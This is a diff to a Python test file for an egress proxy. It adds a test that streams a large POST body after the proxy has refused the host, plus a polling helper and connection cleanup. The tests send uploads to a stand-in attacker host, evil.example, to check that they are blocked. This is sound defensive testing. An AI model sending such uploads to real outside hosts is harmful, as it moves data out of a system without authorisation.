@@ -5,6 +5,7 @@ from __future__ import annotations
 import socket
 import threading
 import time
+from collections.abc import Callable
 from contextlib import ExitStack
 from pathlib import Path
 
@@ -18,13 +19,23 @@ from nextfire.adapters.scripts.bounded_server import (
 )
 from nextfire.adapters.scripts.egress_proxy import MAX_HEAD, EgressProxy
 from nextfire.domain.egress import Egress
-from tests.security.egress_proxy.conftest import Network, Proxy, read_all, serve
+from tests.security.egress_proxy.conftest import PATIENCE, Network, Proxy, read_all, serve
 
 
 def test_large_upload_to_a_refused_host_gets_the_answer(proxy: Proxy) -> None:
     head = b"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 300000\r\n\r\n"
 
     assert b"evil.example:80 is refused" in proxy.ask(head + b"x" * 300_000)
+
+
+def test_upload_that_goes_on_after_the_answer_is_received(proxy: Proxy) -> None:
+    """Most clients send all of a body before they read the answer."""
+    with proxy.open() as client:
+        client.sendall(b"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 9000\r\n\r\n")
+        assert b"evil.example:80 is refused" in read_all(client)
+        for _ in range(9):
+            client.sendall(b"x" * 1000)
+            time.sleep(0.01)
 
 
 def test_headers_without_end_are_cut_off(proxy: Proxy) -> None:
@@ -70,6 +81,13 @@ def test_connection_in_use_outlives_the_idle_time(network: Network) -> None:
             time.sleep(0.05)
 
 
+def _until(true: Callable[[], bool]) -> None:
+    end = time.monotonic() + PATIENCE
+    while not true():
+        assert time.monotonic() < end
+        time.sleep(0.01)
+
+
 def descriptors() -> int:
     return len(list(Path("/proc/self/fd").iterdir()))
 
@@ -113,6 +131,8 @@ def test_one_run_holds_no_more_than_32_connections(network: Network) -> None:
         # A connection is served as soon as another one ends.
         tunnels[1].close()
         assert waiting.recv(12) == b"HTTP/1.1 403"
+        stack.close()
+        _until(lambda: room.open == 0)
 
 
 def test_end_of_a_run_closes_all_that_it_opened(network: Network) -> None:
